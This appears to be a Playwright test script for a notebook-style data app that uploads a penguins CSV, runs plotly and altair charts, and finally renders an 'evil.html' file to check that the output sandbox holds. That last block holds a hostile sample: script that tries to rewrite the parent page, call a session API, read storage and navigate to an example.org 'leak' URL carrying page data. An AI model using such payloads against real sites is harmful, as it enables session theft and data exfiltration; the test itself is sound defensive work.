import * as t from "./harness.mjs";
const { context, close } = await t.browser();
const { page } = await t.open(context);
page.on("console", (m) => console.log("console", m.type(), m.text()));
page.on("requestfailed", (r) => console.log("failed", r.url(), r.failure()?.errorText));
await page.waitForTimeout(800);
await page.screenshot({ path: "/tmp/shots/empty.png" });
await t.upload(page, t.data("penguins.csv"), "penguins.csv");
await page.locator(".column").first().waitFor();
await page.screenshot({ path: "/tmp/shots/file.png" });
const first = await t.ask(page, "average body_mass_g by species as a bar chart");
await first.locator(".toggle", { hasText: "Program" }).click();
await first.locator(".edit").click();
await first.locator(".cm-content").waitFor();
await page.locator(".program").scrollIntoViewIfNeeded();
await page.screenshot({ path: "/tmp/shots/editor.png" });
await page.keyboard.press("Escape");
const p = await t.runInstead(page, first, `import plotly.express as px, pandas as pd
df = pd.read_csv("penguins.csv")
px.scatter(df, x="bill_length_mm", y="bill_depth_mm", color="species")
`);
await page.waitForTimeout(4000);
await page.screenshot({ path: "/tmp/shots/plotly.png" });
console.log((await p.innerText()).slice(0, 300));
const a = await t.runInstead(page, first, `import altair as alt, pandas as pd
df = pd.read_csv("penguins.csv")
display(alt.Chart(df).mark_point().encode(x="bill_length_mm", y="bill_depth_mm", color="species").interactive())
`);
await page.waitForTimeout(4000);
await page.screenshot({ path: "/tmp/shots/altair.png" });
console.log((await a.innerText()).slice(0, 300));
const html = await t.runInstead(page, first, `import plotly.express as px, pandas as pd
df = pd.read_csv("penguins.csv")
px.box(df, x="species", y="body_mass_g").write_html("box.html", include_plotlyjs="cdn")
`);
await page.waitForTimeout(4000);
await page.screenshot({ path: "/tmp/shots/html.png" });
console.log((await html.innerText()).slice(0, 300));
const evil = await t.runInstead(page, first, `open("evil.html","w").write('''<h1 id=h>hi</h1><img src="https://example.org/x.png"><script>
try { parent.document.title = "pwned" } catch (e) { document.getElementById("h").textContent = "parent: " + e.name }
fetch("https://example.org/").catch(e => h.textContent += " fetch: " + e.name);
fetch("/api/v1/sessions").catch(e => h.textContent += " api: " + e.name);
try { localStorage.x } catch (e) { h.textContent += " storage: " + e.name }
setTimeout(() => { location = "https://example.org/leak?" + document.title }, 1500);
setTimeout(() => { open("https://example.org/popup") }, 500);
</script><iframe src="https://example.org/frame"></iframe>''')
`);
await page.waitForTimeout(1200);
await page.screenshot({ path: "/tmp/shots/evil.png" });
await page.waitForTimeout(1500);
await page.screenshot({ path: "/tmp/shots/evil2.png" });
console.log(await page.title(), await page.evaluate(() => window.violations));
await close();
